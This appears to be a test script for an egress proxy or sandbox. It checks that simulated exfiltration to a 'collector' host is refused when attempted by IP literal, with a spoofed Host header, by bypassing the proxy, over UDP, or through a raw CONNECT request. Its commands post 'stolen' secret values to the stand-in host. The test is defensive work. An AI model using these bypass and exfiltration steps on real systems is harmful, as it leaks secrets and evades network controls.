# The collector by its address, also with a spoofed Host, also without the proxy.
need curl python3
harmless allowed "https://origin.attack.test:$PORT/"
literal="refused ip-literal"
for ip in $COLLECTOR_IPS; do
	url="https://$ip:$COLLECTOR_PORT/$KNOWN_AWS"
	attack "$ip" "$literal" "$(fetch --noproxy '' -d "stolen=$KNOWN_GENERIC" "$url")"
	attack "spoofed $ip" "$literal" "$(fetch --noproxy '' -H "Host: origin.attack.test:$PORT" -d "stolen=$KNOWN_GENERIC" "$url")"
	attack "plain spoofed $ip" "$literal|refused port" "$(fetch --noproxy '' -H "Host: origin.attack.test" "http://$ip:$COLLECTOR_PORT/")"
	attack "origin itself $ip" "$literal" "$(fetch --noproxy '' "https://$ip:$PORT/")"
done
python $COLLECTOR_IPS <<'PY'
control("direct", "connected", reach("egress", 9099))
datagrams()
for ip in sys.argv[1:]:
    port = int(os.environ["COLLECTOR_PORT"])
    attack("without the proxy " + ip, "unreachable", reach(ip, port, say_something=os.environ["KNOWN_GENERIC"].encode()))
    got = reach(ip, port, socket.SOCK_DGRAM, say_something=os.environ["KNOWN_GENERIC"].encode())
    attack("datagram without the proxy " + ip, "unreachable", got)
    line = f"CONNECT {ip}:{port} HTTP/1.1\r\nHost: origin.attack.test:{os.environ['PORT']}\r\n\r\n".encode()
    attack("connect with a spoofed Host " + ip, "refused ip-literal|refused authority-mismatch|refused malformed", outcome(raw(line)))
PY
